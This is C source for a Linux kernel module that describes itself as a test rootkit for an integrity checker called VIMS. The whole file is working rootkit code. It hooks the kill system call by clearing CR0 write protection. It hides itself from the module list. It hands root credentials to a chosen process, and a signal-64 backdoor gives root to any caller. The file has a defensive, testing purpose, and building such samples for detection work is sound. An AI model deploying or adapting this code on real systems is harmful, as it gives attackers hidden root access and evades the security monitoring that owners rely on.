// SPDX-License-Identifier: GPL-2.0
/*
 * vims_rk: a test kernel module that does what rootkits do, for VIMS's integrity checks.
 *
 * On load it
 *  - hooks sys_call_table[__NR_kill] (the table is written through CR0.WP cleared, as rootkits do),
 *  - hides itself from the module list (list_del of THIS_MODULE->list; its sysfs kobject stays),
 *  - gives the process `root_pid` (a module parameter, 0: none) root credentials (a fresh copy of
 *    init_cred assigned to its cred and real_cred).
 * Through the hooked kill(2): signal 63 toggles the module's visibility; signal 64 gives the calling
 * process root credentials. Kernels with the 2024 branch-history mitigation (6.1.85 and later: Debian's
 * 6.1.0-2x and later) dispatch system calls through a switch, not the table: there the hook is only
 * seen, never called. So the module can also be unhidden by writing 1 to
 * /sys/module/vims_rk/parameters/unhide (its sysfs kobject stays), after which rmmod, which finds
 * modules by the list, unloads it. Unloading restores the syscall table entry. Never load it outside a throw-away test guest.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/syscalls.h>
#include <linux/cred.h>
#include <linux/sched.h>
#include <linux/pid.h>
#include <linux/rcupdate.h>
#include <asm/unistd.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("VIMS test rootkit (syscall hook, hidden module, root credentials)");

static int root_pid;
module_param(root_pid, int, 0);

typedef long (*syscall_fn)(const struct pt_regs *);
static unsigned long *table;
static syscall_fn real_kill;
static struct list_head *prev_module;
static bool hidden;

static unsigned long lookup(const char *name)
{
	/* kallsyms_lookup_name is not exported: a kprobe on it gives its address. */
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*kallsyms_lookup_name)(const char *);
	unsigned long addr;

	if (register_kprobe(&kp) < 0)
		return 0;
	kallsyms_lookup_name = (unsigned long (*)(const char *))kp.addr;
	unregister_kprobe(&kp);
	addr = kallsyms_lookup_name(name);
	return addr;
}

static inline void write_cr0_raw(unsigned long val)
{
	/* native_write_cr0 pins CR0.WP: write the register directly. */
	asm volatile("mov %0, %%cr0" : "+r"(val) : : "memory");
}

static void set_entry(int nr, unsigned long value)
{
	unsigned long cr0 = read_cr0();

	preempt_disable();
	write_cr0_raw(cr0 & ~X86_CR0_WP);
	table[nr] = value;
	write_cr0_raw(cr0);
	preempt_enable();
}

static void hide(void)
{
	prev_module = THIS_MODULE->list.prev;
	list_del(&THIS_MODULE->list);
	hidden = true;
}

static void unhide(void)
{
	list_add(&THIS_MODULE->list, prev_module);
	hidden = false;
}

static int give_root(struct task_struct *task)
{
	struct cred *cred = prepare_kernel_cred(NULL);

	if (!cred)
		return -ENOMEM;
	/* What a rootkit does to another process: swap its credentials in place. */
	rcu_assign_pointer(task->real_cred, get_cred(cred));
	rcu_assign_pointer(task->cred, cred);
	return 0;
}

static long hooked_kill(const struct pt_regs *regs)
{
	int sig = (int)regs->si;

	if (sig == 63) {
		if (hidden)
			unhide();
		else
			hide();
		return 0;
	}
	if (sig == 64)
		return commit_creds(prepare_kernel_cred(NULL));
	return real_kill(regs);
}

static int set_unhide(const char *val, const struct kernel_param *kp)
{
	if (hidden)
		unhide();
	return 0;
}

static const struct kernel_param_ops unhide_ops = { .set = set_unhide };
module_param_cb(unhide, &unhide_ops, NULL, 0200);

static int __init rk_init(void)
{
	table = (unsigned long *)lookup("sys_call_table");
	if (!table)
		return -ENOENT;
	if (root_pid) {
		struct task_struct *task;
		int err = -ESRCH;

		rcu_read_lock();
		task = pid_task(find_vpid(root_pid), PIDTYPE_PID);
		if (task)
			err = give_root(task);
		rcu_read_unlock();
		if (err)
			return err;
	}
	real_kill = (syscall_fn)table[__NR_kill];
	set_entry(__NR_kill, (unsigned long)hooked_kill);
	hide();
	return 0;
}

static void __exit rk_exit(void)
{
	set_entry(__NR_kill, (unsigned long)real_kill);
}

module_init(rk_init);
module_exit(rk_exit);
